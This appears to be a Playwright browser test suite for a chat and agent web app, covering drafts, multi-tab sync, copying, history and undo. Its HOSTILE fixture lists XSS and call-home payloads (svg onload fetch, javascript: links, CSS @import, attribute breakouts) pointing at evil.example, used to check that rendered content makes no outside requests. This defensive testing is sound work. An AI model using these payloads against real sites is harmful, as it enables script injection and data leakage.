"""Conversations in a real Chromium: drafts, copying, earlier messages, undo; and text that would like to call home."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import Window, in_one_dialect
from tests.browser.test_pages import SIZES, is_fine, until
from tests.browser.test_whole_job import begin
from tests.embedded import Embedded
from tests.portico import Portico
from tests.stories.test_conversations import fill, write_into

pytestmark = in_one_dialect
EVIL = "http://evil.example"
HOSTILE = (
    f"![a]({EVIL}/inline.png) ![b][1] [![c]({EVIL}/inner.png)]({EVIL}/outer)\n\n[1]: {EVIL}/reference.png",
    f"![d](//evil.example/relative.png) ![e](data:image/svg+xml,<svg/onload=fetch('{EVIL}')>) ![f](<{EVIL}/angle.png>)",
    f"<img src={EVIL}/a.png srcset='{EVIL}/b.png 2x'><picture><source srcset={EVIL}/c.png><img></picture>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/d.png'/><use href='{EVIL}/e.svg#x'/></svg>",
    f"<style>@import '{EVIL}/f.css'; * {{ background: url({EVIL}/g) }}</style><p style='background:url({EVIL}/h)'>x",
    f"<link rel=stylesheet href={EVIL}/i.css><link rel=preload as=image href={EVIL}/j><base href={EVIL}/>",
    f"<script src={EVIL}/k.js></script><iframe src={EVIL}/l></iframe><object data={EVIL}/m></object><embed src=n>",
    f"<video poster={EVIL}/o src={EVIL}/p></video><audio src={EVIL}/q autoplay></audio><input type=image src={EVIL}/r>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/s'><body background={EVIL}/t><table background={EVIL}/u>",
    f"[js](javascript:location='{EVIL}') <javascript:alert(1)> [vb](vbscript:x) [d](data:text/html,<script>1</script>)",
    f"<a href={EVIL} ping={EVIL}/v>x</a><form action={EVIL}><button autofocus onfocus=fetch('{EVIL}')>y</form>",
    f"\"><img src={EVIL}/w.png> '><svg/onload=fetch('{EVIL}')> </textarea></pre></code></title><img src={EVIL}/x.png>",
    f"{{{{ x }}}} {{% load static %}} <div hx-get={EVIL}/y hx-trigger=load></div><div data-follow={EVIL}/z></div>",
    f"```html\n<img src={EVIL}/code.png>\n```\n\n`<img src={EVIL}/span.png>`\n\n|![t]({EVIL}/cell.png)|\n|---|\n|x|",
    f'```css"><img src={EVIL}/info.png>\n@import url({EVIL}/fence.css);\n```\n\n<{EVIL}/autolink> {EVIL}/bare',
)


def test_nothing_that_was_written_calls_another_host(window: Window, demo: Portico, demo_gateway: Embedded) -> None:
    page = window("Try as user")
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    begin(page, "Echo", "\n\n".join(HOSTILE))  # it says the same
    answers = page.get_by_role("article", name="Echo")
    expect(answers).to_contain_text("fence.css")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(page.get_by_role("link", name="Show image from evil.example").first).to_be_visible()
    path = urlsplit(page.url).path
    for text in HOSTILE:
        page.locator(".menu--talk summary").click()
        page.get_by_label("Name").fill(text[:120].replace("\n", " "))
        page.get_by_role("button", name="Rename").click()
        expect(page.get_by_role("heading", name="Echo")).to_be_visible()
    for text in HOSTILE:
        said_with_tools(demo, path, text)
    page.reload()
    for shown in (".subagent", ".asks"):
        expect(page.locator(shown)).to_have_count(len(HOSTILE))
    look_everywhere(page)
    page.goto("/conversations/?q=evil+png")
    expect(page.locator("mark").first).to_be_visible()
    page.goto("/agents/")
    begin(page, "File manager", f"please read {HOSTILE[2]} and delete it.txt")
    expect(page.get_by_role("article", name="File manager")).to_be_visible()
    look_everywhere(page)
    for text in HOSTILE[::4]:
        page.goto(f"/agents/{hostile_agent(demo_gateway, text)}/")
        expect(page.get_by_role("heading", level=1)).to_contain_text(text.split()[0])
        page.get_by_role("textbox", name="Message").fill("hello")
        page.get_by_role("button", name="Send").click()
        page.wait_for_url("**/conversations/**")
        expect(page.get_by_role("alert")).to_be_visible()
    page.goto("/agents/")
    page.goto("/conversations/")
    others = {url for url in asked if not url.startswith((demo.url, demo.url.replace("http", "ws"), "blob:"))}
    assert not others
    assert len(asked) > len(HOSTILE)


def look_everywhere(page: Page) -> None:
    """Open what is folded, and pass over every link."""
    page.locator("[data-log]").evaluate("log => log.querySelectorAll('details').forEach(one => (one.open = true))")
    for link in page.locator("[data-log] a").all()[-8:]:
        link.hover()


def said_with_tools(demo: Portico, path: str, text: str) -> None:
    """As if an agent had answered with this in every place that an agent can write to."""
    speech = {"kind": "text", "key": f"s{text}", "id": "s", "text": text}
    parts: list[dict[str, Any]] = [
        {"kind": "reasoning", "key": f"r{text}", "id": "r", "text": text},
        {"kind": "tool", "id": f'c"{text[:40]}', "name": text, "arguments": json.dumps({text: text}), "result": text},
        {"kind": "tool", "id": "d", "name": "plain", "arguments": text, "result": json.dumps([text])},
        {"kind": "text", "id": "t", "text": text},
        *({**speech, **by} for by in ({"role": "system"}, {"role": text, "name": text}, {"name": text})),
        {"kind": "stage", "key": text, "name": text, "state": "done"},
        {"kind": "activity", "key": text, "id": text, "type": text, "content": {text: text, "rows": [{text: text}]}},
        {
            **{"kind": "agent", "key": text, "id": text, "name": text, "about": text, "state": "failed"},
            **{"problem": text, "result": {text: text}, "parts": [speech, {**speech, "name": text}]},
        },
        {"kind": "state", "key": "state", "value": {text: [text]}},
        {"kind": "others", "key": "others", "count": 2, "events": [{"name": text, "value": text}] * 2},
        {"kind": "usage", "key": "usage", "entries": [{"provider": text, "model": text, "inputTokens": 1}]},
    ]
    choice = {"type": "string", "title": text, "description": text, "enum": [text]}
    schema = {"type": "object", "title": text, "properties": {text: choice, "more": {"type": "array", "items": choice}}}
    form = {"id": text, "reason": "form", "message": text, "responseSchema": schema}
    asked = [
        {"interrupt": form, "problems": {"": text}},
        {"interrupt": {"id": "other", "reason": text, "message": text, "metadata": {text: text}}},
    ]
    failed = {"status": "failed", "problem": text[:500], "detail": text}
    kept = {"parts": json.dumps(parts), "interrupts": json.dumps(asked)}
    write_into(demo, path, [(text, failed | kept)])


def hostile_agent(gateway: Embedded, text: str) -> str:
    """The id of an agent that has this for its name and for what is said about it."""
    wanted = {"name": text[:200], "description": text, "upstreamUrl": f"{gateway.url}/nothing-here"}
    headers = {"Authorization": f"Bearer {gateway.token('admin@example.com')}"}
    answer = requests.post(f"{gateway.url}/api/v1/admin/agents", json=wanted, headers=headers, timeout=15)
    answer.raise_for_status()
    return str(answer.json()["agent"]["id"])


def test_a_footnote_and_a_thought_look_the_same_live_and_after_a_reload(window: Window) -> None:
    page = window("Try as user")
    begin(page, "Echo", "hello")
    box = page.get_by_role("textbox", name="Message")
    box.fill("<think>Hm.</think>\nFact.[^1]\n\n<details>\n<summary>More</summary>\nfolded\n</details>\n\n[^1]: Source")
    box.press("Enter")
    answer = page.get_by_role("article", name="Echo").last
    expect(answer.locator("sup a")).to_have_text("1")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    live = answer.inner_text()
    assert live.count("Fact.") == live.count("Source") == live.count("Reasoning") == 1
    assert "Hm." not in live and "folded" not in live
    answer.get_by_text("More", exact=True).click()
    expect(answer.get_by_text("folded")).to_be_visible()
    page.reload()
    assert answer.inner_text() == live
    answer.locator("sup a").click()
    expect(answer.locator(".note:target")).to_have_text("1\nSource", use_inner_text=True)


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("speak in turns", ["The first voice", "says the first.", "The second voice", "says the second."]),
        ("correct yourself", ["Let me look it up.", "look_up", "There are seven bridges."]),
    ],
)
def test_messages_in_turns_and_corrected_ones_look_the_same_live_and_after_a_reload(
    window: Window, words: str, shown: list[str]
) -> None:
    page = window("Try as user")
    begin(page, "Showcase", words)
    answer = page.get_by_role("article", name="Showcase").last
    expect(answer).to_contain_text(shown[-1])
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    live = answer.inner_text()
    assert [live.count(one) for one in shown] == [1] * len(shown)
    assert sorted(shown, key=live.index) == shown
    page.reload()
    assert answer.inner_text() == live


def test_what_is_being_written_survives_a_reload_and_signing_out(window: Window) -> None:
    page = window("Try as user")
    begin(page, "Echo", "hello")
    path = page.url
    box = page.get_by_role("textbox", name="Message")
    with page.expect_response("**/draft/") as kept:
        box.press_sequentially("not quite done", delay=5)
    assert kept.value.status == 204
    page.reload()
    expect(box).to_have_value("not quite done")
    box.press("End")
    box.press_sequentially(" yet", delay=5)
    with page.expect_response("**/draft/"):  # leaving the box is enough
        page.locator(".frame .menu summary").click()
    page.get_by_role("button", name="Sign out").click()
    page.get_by_role("button", name="Try as user").click()
    page.goto(path)
    expect(box).to_have_value("not quite done yet")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("article", name="Echo")).to_have_count(2)
    page.reload()
    expect(box).to_have_value("")


def test_two_tabs_show_the_same_and_an_edit_survives_a_reload(window: Window) -> None:
    one = window("Try as user")
    begin(one, "Echo", "first thing")
    expect(one.get_by_role("button", name="Send")).to_be_visible()
    elsewhere = window("Try as user")  # another device
    two = one.context.new_page()
    two.route_web_socket("**", lambda _: None)  # the server tells it nothing: the other tab does
    two.goto(one.url)
    elsewhere.goto(one.url)
    for number, words in ((2, "second"), (3, "third")):
        say(one, words)
        for page in (one, two, elsewhere):  # nobody has to come back to it
            expect(page.get_by_role("article", name="Echo")).to_have_count(number)
            expect(page.get_by_role("button", name="Send")).to_be_visible()
            expect(page.get_by_role("article", name="Echo").last).to_contain_text(words)
    two.context.set_offline(True)
    say(elsewhere, "said elsewhere")
    expect(elsewhere.get_by_role("article", name="Echo")).to_have_count(4)
    two.context.set_offline(False)
    for page in (one, two):
        expect(page.get_by_role("article", name="Echo")).to_have_count(4)
    say(two, "fourth")
    for page in (one, two, elsewhere):
        expect(page.get_by_role("article", name="Echo")).to_have_count(5)
        expect(page.get_by_role("article", name="You").locator(".said")).to_have_text(
            ["first thing", "second", "third", "said elsewhere", "fourth"]
        )
        expect(page.get_by_role("button", name="Send")).to_be_visible()
    one.get_by_role("link", name="Edit message").last.click()
    box = one.get_by_role("textbox", name="Message")
    with one.expect_response("**/draft/"):
        box.press_sequentially(", edited", delay=5)
    one.reload()
    expect(box).to_have_value("fourth, edited")
    one.get_by_role("link", name="Cancel").click()
    one.get_by_role("link", name="Edit message: not sent yet").click()
    one.get_by_role("button", name="Send").click()
    expect(one.get_by_role("article", name="Echo").last).to_contain_text("fourth, edited")
    for page in (two, elsewhere):
        expect(page.get_by_role("article", name="You").last).to_contain_text("fourth, edited")
        expect(page.get_by_role("article", name="You")).to_have_count(5)


def test_a_message_whose_receipt_was_lost_is_there_once_when_it_is_sent_again(window: Window) -> None:
    page = window("Try as user")
    begin(page, "Echo", "first thing")
    expect(page.get_by_role("button", name="Send")).to_be_visible()

    def lose(route: Route) -> None:
        route.fetch()
        route.abort()

    page.route("**/messages/", lose, times=1)
    say(page, "second thing")
    expect(page.get_by_role("alert")).to_be_visible()
    page.evaluate("dispatchEvent(new Event('online'))")
    expect(page.get_by_role("article", name="Echo")).to_have_count(2)
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("textbox", name="Message")).to_have_value("")
    expect(page.get_by_role("article", name="You").locator(".said")).to_have_text(["first thing", "second thing"])
    expect(page.get_by_role("article", name="Echo")).to_have_count(2)
    say(page, "third thing")
    expect(page.get_by_role("article", name="Echo")).to_have_count(3)
    expect(page.get_by_role("article", name="Echo").last).to_contain_text("third thing")


def say(page: Page, words: str) -> None:
    page.get_by_role("textbox", name="Message").fill(words)
    page.get_by_role("textbox", name="Message").press("Enter")


def test_an_answer_and_a_code_block_are_copied(window: Window) -> None:
    page = window("Try as user", permissions=["clipboard-read", "clipboard-write"])
    begin(page, "Echo", "so:\n\n```python\nprint(1 < 2)\n```")
    answer = page.get_by_role("article", name="Echo")
    answer.locator("pre").hover()
    answer.get_by_role("button", name="Copy code").click()
    expect(answer.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "print(1 < 2)\n"
    answer.get_by_role("link", name="Copy answer").click()
    expect(answer.get_by_text("Copied").last).to_be_visible()
    until(page, lambda: "You said" in str(page.evaluate("navigator.clipboard.readText()")))
    copied = str(page.evaluate("navigator.clipboard.readText()"))
    assert copied.splitlines() == ["You said: so:", "", "```python", "print(1 < 2)", "```"]  # forms send \r\n


def test_earlier_messages_come_without_moving_what_is_read(window: Window, demo: Portico) -> None:
    page = window("Try as user")
    begin(page, "Echo", "the very first")
    expect(page.get_by_role("article", name="Echo")).to_be_visible()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    fill(demo, urlsplit(page.url).path, 100)
    page.reload()
    expect(page.get_by_role("article", name="You")).to_have_count(25)
    first = page.get_by_role("article", name="You").filter(has_text="question 75")
    page.locator("[data-log]").evaluate("log => log.scrollTop = 0")
    before = first.bounding_box()
    earlier = page.get_by_role("link", name="Show earlier")
    earlier.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("article", name="You")).to_have_count(50)
    after = first.bounding_box()
    assert before
    assert after
    assert abs(before["y"] - after["y"]) <= 1
    expect(earlier).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("article", name="You")).to_have_count(75)
    page.get_by_role("button", name="Jump to latest").click()
    expect(page.get_by_text("question 99")).to_be_in_viewport()


def test_undo_brings_a_deleted_conversation_back(window: Window) -> None:
    page = window("Try as user")
    page.clock.install()
    begin(page, "Echo", "not to be lost")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    before = page.get_by_role("log").inner_text()
    page.locator(".menu--talk summary").click()
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Delete conversation")).to_be_hidden()
    page.locator(".menu--talk summary").click()
    page.get_by_role("button", name="Delete conversation").click()
    offer = page.get_by_role("status").filter(has_text="“not to be lost” was deleted")
    expect(offer).to_be_visible()
    page.clock.run_for(9_000)
    expect(offer).to_be_visible()
    page.clock.run_for(2_000)
    expect(offer).to_have_count(0)
    page.reload()  # by the server's clock it is not too late yet
    offer.get_by_role("button", name="Undo").click()
    expect(page.get_by_role("article", name="You")).to_contain_text("not to be lost")
    assert page.get_by_role("log").inner_text() == before


def test_unfinished_text_is_not_announced(window: Window) -> None:
    page = window("Try as user")
    begin(page, "Storyteller", "everything about ferries")
    expect(page.locator("[data-tail]")).to_have_attribute("aria-live", "off")
    expect(page.locator("[data-tail]")).to_have_attribute("aria-busy", "true")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("log")).to_contain_text("Stopped by you")


@pytest.mark.parametrize("size", SIZES.values(), ids=SIZES)
def test_keeping_conversations_is_fit_for_everybody(window: Window, size: dict[str, Any]) -> None:
    page = window("Try as user", **size)
    begin(page, "Echo", f"see [this]({EVIL}/page) ![that]({EVIL}/p.png)\n\n```python\ndef f(): return 'x'  # why\n```")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    is_fine(page)
    page.locator(".menu--talk summary").click()
    is_fine(page)
    page.get_by_role("button", name="Pin").click()
    page.get_by_role("link", name="Edit message").click()
    expect(page.get_by_role("textbox", name="Message")).to_be_focused()
    is_fine(page)
    page.get_by_role("textbox", name="Message").fill("edited")
    page.get_by_role("button", name="Send").click()
    page.get_by_role("link", name="Edited: earlier version").click()
    expect(page.get_by_text("An earlier version")).to_be_visible()
    is_fine(page)
    page.goto("/conversations/?q=edited")
    is_fine(page)
    page.goto("/conversations/")
    is_fine(page)
    page.get_by_role("link", name="see [this]").first.click()
    page.locator(".menu--talk summary").click()
    page.get_by_role("button", name="Delete conversation").click()
    expect(page.get_by_role("button", name="Undo").first).to_be_visible()
    is_fine(page)
